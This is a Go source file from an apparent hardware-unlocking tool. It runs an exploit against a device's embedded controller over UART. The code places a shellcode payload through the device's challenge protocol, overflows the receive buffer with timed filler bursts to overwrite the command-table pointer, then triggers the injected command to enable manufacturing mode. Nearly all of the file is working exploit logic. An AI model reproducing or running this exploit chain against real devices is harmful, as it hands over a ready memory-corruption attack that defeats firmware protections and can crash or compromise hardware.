package exploit

import (
	"go.uber.org/zap"

	"github.com/muurk/salina-uart/internal/logging"
	"github.com/muurk/salina-uart/internal/ucmd"
)

// ResetLine abstracts the EMC's hardware reset line. Pulse holds the line
// low briefly and releases it; Held reports whether something (not
// necessarily us) is currently holding the device in reset.
type ResetLine interface {
	Pulse()
	Held() bool
}

// fillerLUT supplies the printable bytes used to saturate the device's
// receive path before an overwrite.
const fillerLUT = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"

// fillerBaseLen matches the device-side receive ring size; the actual
// burst is this times ChipConstants.FillerMultiplier.
const fillerBaseLen = 160

// Orchestrator sequences the unlock against one EMC command channel. It is
// driven from the same single control flow as the channel itself.
type Orchestrator struct {
	client   *ucmd.Client
	reset    ResetLine
	registry *FwRegistry
	chip     ChipConstants

	fw      FwConstants
	fwValid bool

	log *zap.Logger
}

// NewOrchestrator creates an orchestrator over an established channel.
// Timing constants default to the salina preset.
func NewOrchestrator(client *ucmd.Client, reset ResetLine, registry *FwRegistry) *Orchestrator {
	return &Orchestrator{
		client:   client,
		reset:    reset,
		registry: registry,
		chip:     SalinaConsts,
		log:      logging.GetLogger(),
	}
}

// ChipConsts returns the active timing constants.
func (o *Orchestrator) ChipConsts() ChipConstants { return o.chip }

// SetChipConsts applies a "picochipconst ..." maintenance command,
// replacing the active constants wholesale.
func (o *Orchestrator) SetChipConsts(cmd string) ucmd.Result {
	consts, ok := ParseChipConstsCommand(cmd)
	if !ok {
		return ucmd.NewNg(ucmd.StatusChipConstsInvalid, "")
	}
	o.chip = consts
	return ucmd.NewSuccess()
}

// SetFwConsts applies a "picofwconst ..." maintenance command. Any cached
// resolution is invalidated so the next run re-queries the device.
func (o *Orchestrator) SetFwConsts(cmd string) ucmd.Result {
	version, fc, ok := ParseFwConstsCommand(cmd)
	if !ok {
		return ucmd.NewNg(ucmd.StatusFwConstsInvalid, "")
	}
	o.registry.Set(version, fc)
	o.fwValid = false
	o.fw = FwConstants{}
	return ucmd.NewSuccess()
}

// ResolveConstants queries the device version and caches the matching
// firmware constants. Resolution only needs to happen once per process;
// placement and overwrite need to happen once per EMC boot.
func (o *Orchestrator) ResolveConstants() ucmd.Result {
	if o.fwValid {
		return ucmd.NewSuccess()
	}
	result := o.client.Version()
	if !result.IsSuccess() {
		return ucmd.NewNg(ucmd.StatusFwConstsVersionFailed, result.Format())
	}
	version := result.Text
	fc, ok := o.registry.Lookup(version)
	if !ok {
		return ucmd.NewNg(ucmd.StatusFwConstsVersionUnknown, version)
	}
	o.log.Info("firmware constants resolved",
		zap.String("version", version),
		zap.Uint32("buf_addr", fc.BufAddr),
		zap.Int("shellcode_len", len(fc.Shellcode)))
	o.fw = fc
	o.fwValid = true
	return ucmd.NewSuccess()
}

// CraftAndPlacePayload builds the payload for the resolved firmware and
// smuggles it into the device buffer through the challenge protocol.
func (o *Orchestrator) CraftAndPlacePayload() ucmd.Result {
	payload, err := CraftPayload(o.fw)
	if err != nil {
		return ucmd.NewNg(ucmd.StatusSetPayloadTooLarge, "")
	}
	return o.placePayload(payload)
}

// placePayload pushes the payload through puareq1/puareq2. The payload
// must be a whole number of chunks; every chunk must be acknowledged.
func (o *Orchestrator) placePayload(payload []byte) ucmd.Result {
	o.client.Nak()
	// The device only processes challenge responses after part 1 of the
	// challenge has been requested. The challenge data itself is unused.
	if !o.client.Puareq1(0) {
		return ucmd.NewNg(ucmd.StatusSetPayloadPuareq1Failed, "")
	}
	for pos, idx := 0, uint32(0); pos < len(payload); pos, idx = pos+payloadChunkLen, idx+1 {
		end := min(pos+payloadChunkLen, len(payload))
		if !o.client.Puareq2(idx, payload[pos:end]) {
			return ucmd.NewNg(ucmd.StatusSetPayloadPuareq2Failed, "")
		}
	}
	o.log.Info("payload placed", zap.Int("len", len(payload)))
	return ucmd.NewSuccess()
}

// writeOOB sends one overwrite burst: saturating filler, the precisely
// timed gap, then the overflow sequence (buffer-advance byte, the four
// value bytes, a zero that also clears the device's receive index, and a
// NAK). Whatever the device spews afterwards is discarded unread.
func (o *Orchestrator) writeOOB(value [4]byte) {
	o.client.Nak()

	filler := make([]byte, fillerBaseLen*int(o.chip.FillerMultiplier))
	for i := range filler {
		filler[i] = fillerLUT[i%len(fillerLUT)]
	}

	seq := []byte{0x0c, value[0], value[1], value[2], value[3], 0x00, ucmd.NakByte}

	if err := o.client.WriteRaw(filler); err != nil {
		o.log.Warn("filler write failed", zap.Error(err))
	}
	ucmd.BusyWait(o.client.Clock(), o.chip.PwnDelay)
	if err := o.client.WriteRaw(seq); err != nil {
		o.log.Warn("overflow write failed", zap.Error(err))
	}

	o.client.Clock().Sleep(o.chip.PostProcess)
	// The device reports the overrun as a stream of input-too-long errors;
	// none of it is meaningful.
	o.client.ClearRx()
}

// overwriteCmdTablePtr rewrites the device's command-table pointer to the
// placed payload. Returns false, before anything is sent, if the target
// address contains a byte this transport cannot carry.
//
// The overrun stops at the first byte in the printable range [0x20,0x80),
// since the device treats it as ordinary input. For every printable byte
// in the address (most significant first) an extra pass is sent with the
// lower-order bytes zeroed, so the bytes beyond the printable one land
// first; the final pass writes the full value. Pass length is identical
// either way to keep the timing uniform.
func (o *Orchestrator) overwriteCmdTablePtr() bool {
	addr := o.fw.BufAddr
	var target [4]byte
	for i := range target {
		b := byte(addr >> (i * 8))
		switch b {
		case '\b', '\r', '\n', ucmd.NakByte:
			return false
		}
		target[i] = b
	}

	for i := range target {
		pos := len(target) - i - 1
		b := target[pos]
		if b >= 0x20 && b < 0x80 {
			toSend := target
			for j := 0; j <= pos; j++ {
				toSend[j] = 0
			}
			o.writeOOB(toSend)
		}
	}
	o.writeOOB(target)
	o.log.Info("command table pointer overwritten", zap.Uint32("target", addr))
	return true
}

// Trigger proves the overwrite landed (the version query must now fail as
// an unknown command), fires the injected command, and verifies the
// shellcode ran. The device may crash here if the pointer landed wrong.
func (o *Orchestrator) Trigger() ucmd.Result {
	o.client.Nak()
	result := o.client.Version()
	if !result.IsNgStatus(ucmd.StatusUnknownCmd) {
		return ucmd.NewNg(ucmd.StatusExploitVersionUnexpected, result.Format())
	}

	// The shellcode does not send a response; only the echo comes back.
	o.client.Send(HaxCommandName, true)

	return o.VerifyUnlocked()
}

// VerifyUnlocked checks for the shellcode's side effect: the serial-number
// query succeeds once manufacturing mode is on.
func (o *Orchestrator) VerifyUnlocked() ucmd.Result {
	o.client.Nak()
	return o.client.GetSerialNo()
}

// Run executes the whole unlock sequence. Already-unlocked devices
// short-circuit after the verification query with no other protocol
// writes. On a failed trigger the EMC is assumed crashed: a hardware reset
// is forced and a distinct status returned; recovery takes several
// seconds, after which the caller should simply run the unlock again.
func (o *Orchestrator) Run() ucmd.Result {
	if o.reset.Held() {
		return ucmd.NewNg(ucmd.StatusEmcInReset, "")
	}

	// Power-up chatter or a previous command's response may still be on
	// the wire.
	o.client.ClearRx()

	if result := o.VerifyUnlocked(); result.IsSuccess() {
		o.log.Info("device already unlocked")
		return ucmd.NewSuccess()
	}

	result := o.ResolveConstants()
	if !result.IsSuccess() {
		return result
	}
	result = o.CraftAndPlacePayload()
	if !result.IsSuccess() {
		return result
	}
	if !o.overwriteCmdTablePtr() {
		return ucmd.NewNg(ucmd.StatusFwConstsInvalid, "")
	}

	result = o.Trigger()
	if result.IsSuccess() {
		o.log.Info("unlock complete")
		return ucmd.NewSuccess()
	}

	// Crash recovery via the device's own watchdog takes ~13s and does not
	// always happen. Force the reset immediately instead; the device
	// announces readiness on the wire ~4.5s later.
	o.log.Warn("trigger failed, forcing EMC reset", zap.String("result", result.Format()))
	o.reset.Pulse()
	return ucmd.NewNg(ucmd.StatusExploitFailedEmcReset, "")
}
